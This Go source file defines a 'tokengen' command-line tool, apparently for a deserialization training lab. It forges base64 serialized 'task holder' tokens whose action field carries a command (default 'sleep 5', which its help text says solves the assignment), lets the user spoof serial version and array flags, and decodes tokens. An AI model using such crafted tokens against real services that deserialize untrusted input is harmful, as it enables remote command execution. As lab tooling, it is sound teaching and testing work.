package main

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"deserlab/internal/model"
	"deserlab/internal/objstream"
	"deserlab/internal/service"
)

func newRootCmd() *cobra.Command {
	root := &cobra.Command{
		Use:   "tokengen",
		Short: "Craft and inspect insecure deserialization tokens",
		Long: `Craft and inspect tokens for POST /InsecureDeserialization/task.

Available subcommands:
  holder - Serialize a task holder
  string - Serialize a plain string
  null   - Serialize a null object
  decode - Describe the record inside a token`,
		SilenceUsage: true,
	}
	root.AddCommand(newHolderCmd(), newStringCmd(), newNullCmd(), newDecodeCmd())
	return root
}

func newHolderCmd() *cobra.Command {
	var (
		name    string
		action  string
		at      string
		version int64
		array   bool
	)
	cmd := &cobra.Command{
		Use:   "holder",
		Short: "Serialize a task holder",
		Long: `Serialize a task holder. The assignment is solved by a holder whose
action is "sleep N" with N between 3 and 7 seconds.`,
		Args: cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			when := time.Now()
			if at != "" {
				t, err := time.Parse(time.RFC3339, at)
				if err != nil {
					return fmt.Errorf("invalid --at: %w", err)
				}
				when = t
			}

			h := model.NewTaskHolder(name, action, when)
			var v any = h
			if version != model.TaskHolderSerialVersion || array {
				v = objstream.Raw{
					Class:         model.TaskHolderClass,
					SerialVersion: version,
					Array:         array,
					Value:         *h,
				}
			}
			return printToken(cmd, v)
		},
	}
	cmd.Flags().StringVar(&name, "name", "backup", "task name")
	cmd.Flags().StringVar(&action, "action", "sleep 5", "task action")
	cmd.Flags().StringVar(&at, "at", "", "requested execution time, RFC3339 (default now)")
	cmd.Flags().Int64Var(&version, "version", model.TaskHolderSerialVersion, "serial version written to the stream")
	cmd.Flags().BoolVar(&array, "array", false, "mark the record as an array")
	return cmd
}

func newStringCmd() *cobra.Command {
	var text string
	cmd := &cobra.Command{
		Use:   "string",
		Short: "Serialize a plain string",
		Args:  cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			return printToken(cmd, text)
		},
	}
	cmd.Flags().StringVar(&text, "text", "sleep 5", "string value")
	return cmd
}

func newNullCmd() *cobra.Command {
	return &cobra.Command{
		Use:   "null",
		Short: "Serialize a null object",
		Args:  cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			return printToken(cmd, nil)
		},
	}
}

func newDecodeCmd() *cobra.Command {
	return &cobra.Command{
		Use:   "decode <token>",
		Short: "Describe the record inside a token",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			// Accepts both alphabets, padded or not, like the task endpoint.
			data, err := service.DecodeToken(strings.TrimSpace(args[0]))
			if err != nil {
				return fmt.Errorf("decode base64: %w", err)
			}
			info, err := objstream.Inspect(data)
			if err != nil {
				return err
			}

			out := cmd.OutOrStdout()
			fmt.Fprintf(out, "tag:     %s\n", info.Tag)
			switch info.Tag {
			case objstream.TagString:
				fmt.Fprintf(out, "text:    %q\n", info.Text)
			case objstream.TagObject:
				fmt.Fprintf(out, "class:   %s\n", info.Class)
				fmt.Fprintf(out, "version: %d\n", info.SerialVersion)
				fmt.Fprintf(out, "array:   %t\n", info.Array)
				fmt.Fprintf(out, "body:    %d bytes\n", info.BodyLen)
			}
			return nil
		},
	}
}

func printToken(cmd *cobra.Command, v any) error {
	data, err := objstream.Marshal(v)
	if err != nil {
		return err
	}
	_, err = fmt.Fprintln(cmd.OutOrStdout(), base64.URLEncoding.EncodeToString(data))
	return err
}
